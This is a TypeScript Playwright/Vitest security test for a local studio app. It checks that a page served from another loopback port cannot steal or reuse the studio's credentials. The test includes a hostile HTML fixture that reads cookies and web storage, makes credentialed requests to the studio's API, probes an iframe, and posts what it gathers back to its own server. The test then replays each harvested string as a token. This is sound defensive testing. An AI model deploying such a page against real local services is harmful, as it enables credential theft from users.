import { createServer, request, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  dropFiles,
  launchBrowser,
  screenshot,
  startStudio,
  studioToken,
  type StudioProcess,
} from './harness.ts';

/**
 * The attack of issue 12: a user opens the studio, then visits a page that another server on
 * 127.0.0.1 serves. That server must receive no credential, and nothing it saw may drive the studio.
 */

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

let studioA: StudioProcess;
let studioB: StudioProcess;
let browser: Browser;
let context: BrowserContext;
let foreign: Server;
let foreignOrigin: string;
const seen: Seen[] = [];

/** What the foreign page tries from inside the browser; it reports back to its own server. */
function foreignPage(studio: string, imagePath: string): string {
  return `<!doctype html><title>elsewhere</title>
<img id="stolen" src="${studio}${imagePath}">
<iframe id="framed" src="${studio}/"></iframe>
<script>
addEventListener('load', async () => {
  const report = { cookie: document.cookie, session: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage) };
  report.image = document.getElementById('stolen').naturalWidth;
  try {
    const r = await fetch('${studio}/rpc/settings:get', { method: 'POST', credentials: 'include', body: '{}' });
    report.rpc = r.status;
  } catch (e) { report.rpc = String(e); }
  try {
    const r = await fetch('${studio}/events', { credentials: 'include' });
    report.events = r.status;
  } catch (e) { report.events = String(e); }
  try { report.frame = document.getElementById('framed').contentDocument?.body?.innerHTML ?? null; }
  catch (e) { report.frame = 'blocked'; }
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
});
</script>`;
}

beforeAll(async () => {
  studioA = await startStudio();
  studioB = await startStudio();
  foreign = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (chunk: string) => (body += chunk));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      if (req.url?.startsWith('/page')) {
        const target = new URL(req.url, 'http://x').searchParams;
        res.writeHead(200, { 'Content-Type': 'text/html' });
        res.end(foreignPage(target.get('studio')!, target.get('image')!));
      } else {
        res.writeHead(204).end();
      }
    });
  });
  await new Promise<void>((done) => foreign.listen(0, '127.0.0.1', done));
  foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  browser = await launchBrowser();
  // One browser profile for everything, as a person has: two studios and the foreign page share it.
  context = await browser.newContext({ viewport: { width: 1360, height: 880 } });
});

afterAll(async () => {
  await browser?.close();
  await studioA?.stop();
  await studioB?.stop();
  await new Promise((done) => foreign?.close(done));
});

async function png(color: string): Promise<Buffer> {
  return sharp({ create: { width: 120, height: 80, channels: 3, background: color } })
    .png()
    .toBuffer();
}

async function openWithImage(studio: StudioProcess, color: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(studio.openUrl);
  expect(page.url(), 'the token has left the address bar').toBe(`${studio.origin}/`);
  await dropFiles(page.locator('section.library-panel'), [
    { name: `${color}.png`, type: 'image/png', bytes: await png(color) },
  ]);
  await page.getByText(/Imported 1 image/).waitFor();
  return page;
}

function tile(page: Page) {
  return page.getByLabel('Library').getByRole('img', { name: 'Imported image without a prompt' }).first();
}

async function imageShows(page: Page): Promise<boolean> {
  return tile(page).evaluate(
    (img) => (img as HTMLImageElement).complete && (img as HTMLImageElement).naturalWidth > 0,
  );
}

/** Raw node:http, as a local server driving the studio from outside any browser would. */
function tryStudio(studio: StudioProcess, path: string, headers: Record<string, string>, body = '{}') {
  return new Promise<number>((resolve, reject) => {
    const port = Number(new URL(studio.origin).port);
    const req = request(
      {
        host: '127.0.0.1',
        port,
        path,
        method: 'POST',
        headers: { Host: `127.0.0.1:${port}`, 'Content-Type': 'application/json', ...headers },
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

describe('browser-mode credentials', () => {
  let pageA: Page;
  let pageB: Page;

  it('two studios in one browser each keep working, side by side', async () => {
    pageA = await openWithImage(studioA, '#c33');
    pageB = await openWithImage(studioB, '#33c');
    await expect.poll(() => imageShows(pageA)).toBe(true);
    await expect.poll(() => imageShows(pageB)).toBe(true);
    // Opening B did not log A out: A still calls, streams events and loads images, also after a reload.
    await dropFiles(pageA.locator('section.library-panel'), [
      { name: 'more.png', type: 'image/png', bytes: await png('#3c3') },
    ]);
    await pageA.getByText(/Imported 1 image/).waitFor();
    await pageA.reload();
    await expect.poll(() => pageA.getByLabel('Library').getByRole('img').count()).toBe(2);
    await expect.poll(() => imageShows(pageA)).toBe(true);
    await expect.poll(() => pageB.getByLabel('Library').getByRole('img').count()).toBe(1);
    // Events reach each page from its own studio only: a theme changed in A turns A dark, not B.
    const setTheme = await tryStudio(
      studioA,
      '/rpc/settings:update',
      { Authorization: `Bearer ${studioToken(studioA)}` },
      '{"theme":"dark"}',
    );
    expect(setTheme).toBe(200);
    await expect.poll(() => pageA.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
    expect(await pageB.evaluate(() => document.documentElement.dataset.theme)).toBe('light');
    await screenshot(pageA, 'two-studios-a');
    await screenshot(pageB, 'two-studios-b');
    expect(await context.cookies()).toEqual([]);
  });

  it('a page on another loopback port receives no credential and can use nothing it saw', async () => {
    const src = await tile(pageA).getAttribute('src');
    const imagePath = new URL(src!, studioA.origin).pathname;
    const visit = `${foreignOrigin}/page?studio=${encodeURIComponent(studioA.origin)}&image=${encodeURIComponent(imagePath)}`;
    // Visited in a new tab, and in the studio's own tab, which leaves the studio for it.
    const elsewhere = await context.newPage();
    await elsewhere.goto(visit);
    await pageA.goto(visit);
    await expect
      .poll(() => seen.filter((request) => request.url === '/report').length, { timeout: 15_000 })
      .toBe(2);

    const token = studioToken(studioA);
    const everything = JSON.stringify(seen);
    expect(everything.includes(token)).toBe(false);
    expect(everything.includes(studioToken(studioB))).toBe(false);
    for (const request of seen) {
      expect(request.headers.cookie, request.url).toBeUndefined();
      expect(request.headers.authorization, request.url).toBeUndefined();
    }
    for (const report of seen.filter((request) => request.url === '/report').map((r) => JSON.parse(r.body))) {
      expect(report).toMatchObject({ cookie: '', session: '{}', local: '{}', image: 0 });
      expect(report.rpc).not.toBe(200);
      expect(report.events).not.toBe(200);
      expect(report.frame === null || report.frame === 'blocked').toBe(true);
    }

    // Every string the foreign server saw, tried against the studio as a token, a cookie and a query.
    const words = new Set(everything.split(/[^A-Za-z0-9_-]+/).filter((word) => word.length >= 8));
    expect(words.size).toBeGreaterThan(20);
    const statuses = new Set<number>();
    for (const word of words) {
      statuses.add(await tryStudio(studioA, '/rpc/settings:get', { Authorization: `Bearer ${word}` }));
      statuses.add(await tryStudio(studioA, '/rpc/settings:get', { Cookie: `studio_token=${word}` }));
      statuses.add(await tryStudio(studioA, `/rpc/settings:get?token=${word}`, {}));
    }
    expect([...statuses]).toEqual([401]);
    // The same request with the real token does get through: the refusals above are not an outage.
    expect(await tryStudio(studioA, '/rpc/settings:get', { Authorization: `Bearer ${token}` })).toBe(200);
    await elsewhere.close();
  });
});
